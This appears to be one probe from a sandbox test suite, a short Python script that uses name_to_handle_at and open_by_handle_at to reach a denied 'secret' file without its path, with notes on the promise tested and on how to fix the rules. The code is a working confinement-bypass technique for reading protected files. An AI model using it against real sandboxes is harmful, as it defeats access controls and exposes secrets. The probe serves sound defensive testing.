"""Name a denied file by its handle, which needs no path to open again."""

import ctypes
import os
import struct

from attack import AT_FDCWD, OUTSIDE, SECRET, call, main, read

PROMISE = "file handles are kernel surface, and denied"
CONTROL = "a handle is given, and opens as root"
ADVICE = "take `handle` out of your kernel rules"


def attempt() -> bool:
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136)
    mount = ctypes.c_int()
    call("name_to_handle_at", AT_FDCWD, SECRET, handle, ctypes.byref(mount), 0)
    try:
        return read(call("open_by_handle_at", os.open(OUTSIDE, os.O_RDONLY), handle, os.O_RDONLY))
    except PermissionError:
        return True  # the handle alone says that the file exists


main(attempt, needs="a file system with handles")
